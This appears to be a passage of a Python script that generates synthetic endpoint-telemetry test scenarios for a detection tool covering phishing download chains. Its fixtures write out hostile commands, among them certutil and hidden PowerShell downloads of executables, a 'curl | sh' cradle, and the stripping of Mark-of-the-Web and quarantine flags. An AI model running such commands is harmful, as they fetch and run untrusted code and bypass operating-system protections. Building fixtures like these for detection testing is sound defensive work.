SESSION_A, SESSION_B = 0x1A2B3, 0x3C4D5


def rds_session(w, s, p, session, sec):
    """explorer.exe of one of alice's logon sessions, and Chrome started from it."""
    w.start(sec, g(s, p + "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE, session)
    w.start(sec + 10.0, g(s, p + "chrome"), CHROME, g(s, p + "explorer"), f'"{CHROME}"', ALICE, session)
    return g(s, p + "chrome")


@scenario("inferred-link-other-session-not-attached")
def _(s):
    # Session A's Chrome reaches a risky ad host. In session B a Chrome started before the log
    # (its start is logged natively, left out of the Windows form) opens a renderer, then saves
    # an ordinary PDF: it belongs to session B, not to session A's browser.
    w = s.host(RDS, "windows")
    a = rds_session(w, s, "a-", SESSION_A, 0.0)
    w.start(10.5, g(s, "a-chrome-net"), CHROME, a, f'"{CHROME}" {NETWORK_SERVICE}', ALICE, SESSION_A)
    w.dns(60.0, a, "ads.promo-tracker.xyz", ["203.0.113.90"])
    w.connect(60.2, g(s, "a-chrome-net"), "203.0.113.90")
    b = rds_session(w, s, "b-", SESSION_B, 20.0)
    w.start(90.0, g(s, "b-renderer"), CHROME, b, f'"{CHROME}" {RENDERER}', ALICE, SESSION_B)
    w.write(120.0, b, DL + "Library_Card_Form.pdf")


@scenario("inferred-link-same-session-attached")
def _(s):
    # Both sessions run Chrome. In session B a Chrome process whose start the Windows form leaves
    # out (a child the configuration filters) starts a renderer, resolves and reaches
    # invoice-portal.top; session B's browser then saves a file from there.
    w = s.host(RDS, "windows")
    rds_session(w, s, "a-", SESSION_A, 0.0)
    b = rds_session(w, s, "b-", SESSION_B, 20.0)
    util = g(s, "b-chrome-util")
    w.start(31.0, util, CHROME, b, f'"{CHROME}" {NETWORK_SERVICE}', ALICE, SESSION_B)
    w.start(90.0, g(s, "b-util-child"), CHROME, util, f'"{CHROME}" --type=gpu-process', ALICE, SESSION_B)
    w.dns(100.0, util, "dl.invoice-portal.top", ["203.0.113.78"])
    w.connect(100.3, util, "203.0.113.78")
    w.write(101.0, b, DL + "Unconfirmed 55120.crdownload")
    w.rename(104.0, b, DL + "Unconfirmed 55120.crdownload", DL + "Invoice_0612.exe",
             strip_none(motw("https://dl.invoice-portal.top/files/Invoice_0612.exe")))
# Variants that look at what follows the write (held for the rule's hold, docs/rules.md).

INVOICE_EXE = DL + "Invoice_0514.pdf.exe"


def invoice_host(s):
    """WS-042 with the events of an0178-outlook-edge-crdownload-motw; returns the host."""
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    invoice_chain(w, s)
    return w


@scenario("motw-removed-run-unblock-then-run")
def _(s):
    # The AN0178 chain; a minute later the user unblocks the file (Properties > Unblock), then
    # runs it from Explorer.
    w = invoice_host(s)
    w.attr(660.0, g(s, "explorer"), INVOICE_EXE + ":Zone.Identifier", "motw_removed")
    w.start(700.0, g(s, "payload"), INVOICE_EXE, g(s, "explorer"), f'"{INVOICE_EXE}" ', ALICE)


@scenario("motw-removed-run-removed-never-run")
def _(s):
    # Unblocked with Unblock-File from a PowerShell the user opened, never run.
    w = invoice_host(s)
    w.start(650.0, g(s, "ps"), POWERSHELL, g(s, "explorer"), f'"{POWERSHELL}" -NoLogo', ALICE)
    w.start(660.0, g(s, "unblock"), POWERSHELL, g(s, "ps"),
            f'"{POWERSHELL}" -c Unblock-File -Path "{INVOICE_EXE}"', ALICE)
    w.attr(660.3, g(s, "unblock"), INVOICE_EXE + ":Zone.Identifier", "motw_removed")


@scenario("motw-removed-run-run-with-motw")
def _(s):
    # Run with its Mark-of-the-Web intact (SmartScreen would have asked).
    w = invoice_host(s)
    w.start(700.0, g(s, "payload"), INVOICE_EXE, g(s, "explorer"), f'"{INVOICE_EXE}" ', ALICE)


@scenario("container-run-iso-mounted-then-run")
def _(s):
    # A link clicked in Outlook downloads a disk image; Explorer mounts it as E: and the user
    # runs the program on it.
    w = outlook_iso(s)
    w.start(680.0, g(s, "payload"), r"E:\Remittance_0612.exe", g(s, "explorer"), r'"E:\Remittance_0612.exe" ', ALICE)


@scenario("container-run-zip-explorer-temp")
def _(s):
    # A chained .zip download; the user opens it in Explorer and double-clicks the program in
    # it, which Explorer runs from its Temp1_<archive> folder.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, _ = docs_share_page(w, s, "https://docs-share.top/d/Statement_0612")
    save_as(w, edge, 612.0, DL + "Statement_0612.zip", motw("https://docs-share.top/d/Statement_0612.zip"))
    inside = r"C:\Users\alice\AppData\Local\Temp\Temp1_Statement_0612.zip\Statement_0612.exe"
    w.start(690.0, g(s, "payload"), inside, g(s, "explorer"), f'"{inside}" ', ALICE)


@scenario("container-run-volume-exec-without-container")
def _(s):
    # The AN0178 chain (an executable, no container), and a program run from a drive E: (a USB
    # stick): no container download to have mounted it.
    w = invoice_host(s)
    w.start(680.0, g(s, "usb"), r"E:\PortableApps\Start.exe", g(s, "explorer"), r'"E:\PortableApps\Start.exe" ', ALICE)


def save_as(w, edge, sec, path, origin, tag="0612"):
    """Edge saves `path` as browsers do: a partial download, renamed with its MotW 3 s later."""
    part = DL + f"Unconfirmed {tag}.crdownload"
    w.write(sec - 3.0, edge, part)
    w.rename(sec, edge, part, path, strip_none(origin))


def docs_share_page(w, s, url="https://docs-share.top/v/0612"):
    """Outlook -> msedge (`url`) -> docs-share.top: the page the lure links to."""
    edge, net = edge_from_outlook(w, s, 600.0, url)
    w.dns(600.7, edge, "docs-share.top", ["203.0.113.64"])
    w.connect(600.9, net, "203.0.113.64")
    return edge, net


@scenario("html-smuggling-blob-zip")
def _(s):
    # The page's script builds the archive and saves it through a blob: URL.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, _ = docs_share_page(w, s)
    save_as(w, edge, 606.0, DL + "Statement_0612.zip",
            motw("blob:https://docs-share.top/6f1c2a8e-7b1d-4d2e-9a55-0c3e1f2b7a90", "https://docs-share.top/v/0612"))


@scenario("html-smuggling-blob-pdf")
def _(s):
    # The same page saves a PDF through a blob: URL: no payload class.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, _ = docs_share_page(w, s)
    save_as(w, edge, 606.0, DL + "Statement_0612.pdf",
            motw("blob:https://docs-share.top/6f1c2a8e-7b1d-4d2e-9a55-0c3e1f2b7a90", "https://docs-share.top/v/0612"))


def smuggled_html(w, s, origin_url):
    """The lineage saves an .html (from `origin_url`), which the user then opens in Edge."""
    edge, _ = docs_share_page(w, s)
    page = DL + "Remittance_0612.html"
    save_as(w, edge, 606.0, page, motw(origin_url))
    w.start(660.0, g(s, "viewer"), EDGE, g(s, "explorer"), f'"{EDGE}" --single-argument {page}', ALICE)


@scenario("html-smuggling-page-opened")
def _(s):
    # The saved page names a host the lineage never connected to (its content came inline).
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    smuggled_html(w, s, "https://cdn-remit.click/r/Remittance_0612.html")


@scenario("html-smuggling-page-from-reached-domain")
def _(s):
    # The saved page comes from the domain the lineage did connect to.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    smuggled_html(w, s, "https://docs-share.top/v/Remittance_0612.html")


VOLUME_APP = "/Volumes/PayrollUpdate/PayrollUpdate.app/Contents/MacOS/PayrollUpdate"


def payroll_dmg(m):
    chrome, helper = mac_chrome(m)
    terminal = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"
    m.start(20.0, "700:800", terminal, "1:100", terminal, "carol")
    m.start(20.5, "710:810", "/bin/zsh", "700:800", "-zsh", "carol")
    mac_click(m, chrome, helper, "https://payroll-update.monster/q2/statement", "payroll-update.monster", "203.0.113.90")
    m.write(606.0, chrome, MDL + "PayrollUpdate.dmg.crdownload")
    m.attr(606.1, chrome, MDL + "PayrollUpdate.dmg.crdownload", "quarantine_set")
    m.rename(609.0, chrome, MDL + "PayrollUpdate.dmg.crdownload", MDL + "PayrollUpdate.dmg",
             {"url": "https://payroll-update.monster/dl/PayrollUpdate.dmg", "agent": "Google Chrome"})
    return chrome, helper


@scenario("macos-quarantine-stripped-then-run-from-volume")
def _(s):
    # Following the page's instructions: strip the quarantine in Terminal, mount, run the app.
    m = s.host("mbp-7", "macos")
    chrome, helper = payroll_dmg(m)
    m.start(650.0, "720:820", "/usr/bin/xattr", "710:810", "xattr -c ~/Downloads/PayrollUpdate.dmg", "carol")
    m.attr(650.2, "720:820", MDL + "PayrollUpdate.dmg", "quarantine_removed")
    m.end(650.3, "720:820")
    m.start(660.0, "730:830", "/usr/bin/hdiutil", "710:810", "hdiutil attach /Users/carol/Downloads/PayrollUpdate.dmg", "carol")
    m.start(690.0, "740:840", VOLUME_APP, "1:100", VOLUME_APP, "carol")
    mac_trailer(m, chrome, helper)


@scenario("macos-quarantine-stripped-run-with-quarantine")
def _(s):
    # Mounted and run with the quarantine flag still set (Gatekeeper checked it).
    m = s.host("mbp-7", "macos")
    chrome, helper = payroll_dmg(m)
    m.start(660.0, "730:830", "/usr/bin/hdiutil", "710:810", "hdiutil attach /Users/carol/Downloads/PayrollUpdate.dmg", "carol")
    m.start(690.0, "740:840", VOLUME_APP, "1:100", VOLUME_APP, "carol")
    mac_trailer(m, chrome, helper)
CERTUTIL = r"C:\Windows\System32\certutil.exe"
TEMP = "C:\\Users\\alice\\AppData\\Local\\Temp\\"


def office_certutil(w, s, parent, url_host, ip, t=600.0):
    """`parent` starts certutil with a URL; certutil resolves and reaches it, and saves svc.exe."""
    cu = g(s, "certutil")
    w.start(t, cu, CERTUTIL, parent,
            f"certutil.exe -urlcache -split -f http://{url_host}/u/svc.exe {TEMP}svc.exe", ALICE)
    w.dns(t + 0.3, cu, url_host, [ip])
    w.connect(t + 0.5, cu, ip, 80)
    w.write(t + 2.0, cu, TEMP + "svc.exe")


def winword(w, s, t=500.0):
    word = g(s, "winword")
    w.start(t, word, WINWORD, g(s, "explorer"), f'"{WINWORD}" /n "C:\\Users\\alice\\Documents\\Q2_bonus.docx"', ALICE)
    return word


@scenario("office-lolbin-winword-certutil")
def _(s):
    # Word (opened from Explorer) starts certutil with a URL on an untrusted domain; certutil
    # fetches an executable into %TEMP%.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    office_certutil(w, s, winword(w, s), "cdn-update.top", "203.0.113.90")


@scenario("office-lolbin-browser-root")
def _(s):
    # The same certutil download, started by Edge (opened from the taskbar): a browser root.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, _ = edge_from_desktop(w, s, 500.0)
    office_certutil(w, s, edge, "cdn-update.top", "203.0.113.90")


@scenario("office-lolbin-trusted-destination")
def _(s):
    # Word reaches an untrusted template host itself, then starts certutil, whose URL is on an
    # allowlisted domain: the LOLBIN made no untrusted egress.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    word = winword(w, s)
    w.dns(560.0, word, "templates-cdn.top", ["203.0.113.91"])
    w.connect(560.2, word, "203.0.113.91")
    office_certutil(w, s, word, "download.microsoft.com", "203.0.113.92")


@scenario("office-lolbin-outlook-powershell-zip")
def _(s):
    # Outlook (a mail root) starts PowerShell with `iwr URL -OutFile`; PowerShell reaches the
    # host and saves an archive into %TEMP%.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    ps = g(s, "powershell")
    w.start(600.0, ps, POWERSHELL, g(s, "outlook"),
            f"powershell.exe -nop -w hidden -c \"iwr https://share-docs.top/p/doc.zip -OutFile {TEMP}doc.zip\"", ALICE)
    w.dns(600.4, ps, "share-docs.top", ["203.0.113.93"])
    w.connect(600.6, ps, "203.0.113.93")
    w.write(603.0, ps, TEMP + "doc.zip")


XTERM = "/usr/bin/xterm"
BASH = "/usr/bin/bash"
CURL = "/usr/bin/curl"
CRADLE = 'bash -c "curl -fsSL https://{host}/i.sh | sh"'


def firefox_lure(l, t=300.0):
    """Firefox (from the desktop) opens a fake-fix page on an untrusted domain."""
    l.start(10.0, 3000, FIREFOX_L, 1500, FIREFOX_L, "bob")
    l.dns(t, None, "fix-your-browser.top", ["198.51.100.80"])
    l.connect(t + 0.3, 3000, "198.51.100.80")
    return 3000


def cradle(l, parent, host, ip, t, pid=3110):
    """`parent` runs the cradle in a shell: curl fetches `host` and pipes it into sh."""
    l.start(t, pid, BASH, parent, CRADLE.format(host=host), "bob")
    l.start(t + 0.1, pid + 10, CURL, pid, f"curl -fsSL https://{host}/i.sh", "bob")
    l.start(t + 0.1, pid + 11, "/usr/bin/dash", pid, "sh", "bob")
    l.dns(t + 0.2, None, host, [ip])
    l.connect(t + 0.4, pid + 10, ip)


def xterm_cradle(s, host, ip):
    """The page makes Firefox open xterm running the cradle on `host`."""
    l = s.host("dev-laptop", "linux")
    linux_desktop(l)
    firefox = firefox_lure(l)
    l.start(320.0, 3100, XTERM, firefox, f"xterm -e {CRADLE.format(host=host)}", "bob")
    cradle(l, 3100, host, ip, 320.2)


@scenario("terminal-cradle-firefox-xterm-curl-sh")
def _(s):
    # The cradle fetches from another untrusted domain.
    xterm_cradle(s, "cdn-fix.top", "198.51.100.90")


@scenario("terminal-cradle-terminal-not-from-browser")
def _(s):
    # The same cradle, pasted into the desktop's own terminal (gnome-terminal-server from
    # gnome-shell), while Firefox shows the page: no link lineage above the shell.
    l = s.host("dev-laptop", "linux")
    linux_desktop(l)
    firefox_lure(l)
    cradle(l, 1610, "cdn-fix.top", "198.51.100.90", 320.2)


@scenario("terminal-cradle-allowlisted-domain")
def _(s):
    # The cradle fetches from an allowlisted distribution domain.
    xterm_cradle(s, "assets.ubuntu.com", "198.51.100.91")


# ----------------------------------------------------------------------------------------------

TOML = {
    "window-observed-inside-5m-window": '[windows]\ntime_window = "5m"\n',
    "gap-edge-weak-min-weak": '[windows]\nmin_strength = "weak"\n',
    "benign-risky-visit-then-trusted-download-min-weak": '[windows]\nmin_strength = "weak"\n',
    "address-only-egress-trusted-origin-min-weak": '[windows]\nmin_strength = "weak"\n',
    "address-only-egress-before-gap-trusted-origin-min-weak": '[windows]\nmin_strength = "weak"\n',
    "dyndns-plain-risk-score-30": "[windows]\ndomain_risk_score = 30\n",
    "egress-intranet-private-ip-untrusted-cidr": '[windows]\nuntrusted_cidrs = ["10.20.0.0/16"]\n',
    "egress-intranet-private-ip-untrusted-cidr-other-range": '[windows]\nuntrusted_cidrs = ["10.99.0.0/16"]\n',
    "untrusted-cidr-origin-on-another-lab-address": '[windows]\nuntrusted_cidrs = ["10.20.0.0/16"]\n',
    "redirect-chain-hop-then-payload": '[rules]\nenabled = ["chain", "redirect-chain"]\n',
    "redirect-chain-one-registrable-domain": '[rules]\nenabled = ["redirect-chain"]\n',
    "mail-payload-outlook-link-iso": '[rules]\nenabled = ["chain", "mail-payload"]\n',
    "mail-payload-outlook-link-executable": '[rules]\nenabled = ["mail-payload"]\n',
    "mail-payload-browser-root-iso": '[rules]\nenabled = ["mail-payload"]\n',
    "quarantine-missing-at-end-of-input-with-a-held-rule": '[rules]\nenabled = ["chain", "motw-removed-run"]\n',
    "motw-removed-run-unblock-then-run": '[rules]\nenabled = ["chain", "motw-removed-run"]\n',
    "motw-removed-run-removed-never-run": '[rules]\nenabled = ["motw-removed-run"]\n',
    "motw-removed-run-run-with-motw": '[rules]\nenabled = ["motw-removed-run"]\n',
    "container-run-iso-mounted-then-run": '[rules]\nenabled = ["chain", "container-run"]\n',
    "container-run-iso-never-opened": '[rules]\nenabled = ["container-run"]\n',
    "container-run-zip-explorer-temp": '[rules]\nenabled = ["container-run"]\n',
    "container-run-volume-exec-without-container": '[rules]\nenabled = ["container-run"]\n',
    "html-smuggling-blob-zip": '[rules]\nenabled = ["html-smuggling"]\n',
    "html-smuggling-blob-pdf": '[rules]\nenabled = ["html-smuggling"]\n',
    "html-smuggling-page-opened": '[rules]\nenabled = ["html-smuggling"]\n',
    "html-smuggling-page-from-reached-domain": '[rules]\nenabled = ["html-smuggling"]\n',
    "macos-quarantine-stripped-then-run-from-volume": '[rules]\nenabled = ["chain", "macos-quarantine-stripped"]\n',
    "macos-quarantine-stripped-run-with-quarantine": '[rules]\nenabled = ["macos-quarantine-stripped"]\n',
    "macos-quarantine-stripped-never-run": '[rules]\nenabled = ["macos-quarantine-stripped"]\n',
    "office-lolbin-winword-certutil": '[rules]\nenabled = ["chain", "office-lolbin"]\n',
    "office-lolbin-browser-root": '[rules]\nenabled = ["office-lolbin"]\n',
    "office-lolbin-outlook-powershell-zip": '[rules]\nenabled = ["office-lolbin"]\n',
    "office-lolbin-trusted-destination": '[rules]\nenabled = ["office-lolbin"]\n',
    "terminal-cradle-firefox-xterm-curl-sh": '[rules]\nenabled = ["chain", "terminal-cradle"]\n',
    "terminal-cradle-terminal-not-from-browser": '[rules]\nenabled = ["terminal-cradle"]\n',
    "terminal-cradle-allowlisted-domain": '[rules]\nenabled = ["terminal-cradle"]\n',
    "domain-ip-only-no-name-allowed-cidr":
        '[windows]\nallowed_cidrs = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "203.0.113.0/24"]\n',
}


# Scenarios run with a newly-observed-domain store: a week of history up to a minute before the
# scenario, knowing these domains (the file `scan --nod-store` writes).
FIRST_SEEN = {
    "allowlisted-cdn-microsoft-after-warmup": ["bbc.co.uk", "wikipedia.org"],
    "newly-observed-domain": ["bbc.co.uk", "wikipedia.org"],
    "newly-observed-domain-second-host": ["bbc.co.uk", "wikipedia.org"],
    "nod-replay-three-hours-warmed-store": ["alpine-trails.net", "bbc.co.uk", "harbour-times.com", "recipe-box.org",
                                            "wikipedia.org"],
}


# Stores (format version 2) that name the hosts whose browsing they saw for that week; the
# others above are version 1 files, which name none: history for every host.
FIRST_SEEN_HOSTS = {
    "nod-store-warmed-on-another-host": [WIN],
    "nod-store-per-host-history": [WIN],
}
FIRST_SEEN.update({name: ["bbc.co.uk", "wikipedia.org"] for name in FIRST_SEEN_HOSTS})


def first_seen_store(base, domains, hosts=None):
    start = int((base - timedelta(days=7)).replace(tzinfo=timezone.utc).timestamp() * 1000)
    last = int((base - timedelta(minutes=1)).replace(tzinfo=timezone.utc).timestamp() * 1000)
    version = 1 if hosts is None else 2
    lines = [json.dumps({"clickchain_first_seen": version, "start_ms": start, "last_ms": last}, separators=(",", ":"))]
    lines += [json.dumps({"host": h, "start_ms": start, "last_ms": last}, separators=(",", ":"))
              for h in sorted(hosts or [])]
    lines += [json.dumps({"domain": d, "first_ms": start + 1000 * i}, separators=(",", ":"))
              for i, d in enumerate(sorted(domains))]
    return "\n".join(lines) + "\n"


def main():
    day = datetime(2024, 5, 14, 9, 0, 0)
    for name, fn in sorted(SCENARIOS.items()):
        # A day of 2024 per scenario (stable: from its name), at 09:00 UTC (08:00 where the
        # newly-observed-domain warm-up matters).
        offset = int(hashlib.md5(name.encode()).hexdigest(), 16) % 200
        warmup = name in ("allowlisted-cdn-microsoft-after-warmup", "newly-observed-domain",
                          "newly-observed-domain-no-store", "nod-replay-three-hours-ordinary-browsing",
                          "nod-replay-three-hours-warmed-store")
        base = day + timedelta(days=offset, hours=-1 if warmup else 0)
        s = Scenario(name, base.isoformat())
        fn(s)
        with open(f"{name}.ndjson", "w") as f:
            f.write("\n".join(s.lines()) + "\n")
        if name in FIRST_SEEN:
            with open(f"{name}.first-seen", "w") as f:
                f.write(first_seen_store(base, FIRST_SEEN[name], FIRST_SEEN_HOSTS.get(name)))
        if name in TOML:
            with open(f"{name}.toml", "w") as f:
                f.write(f"# Variant: the events of the scenario it names in README.md, with this change.\n{TOML[name]}")


if __name__ == "__main__":
    main()
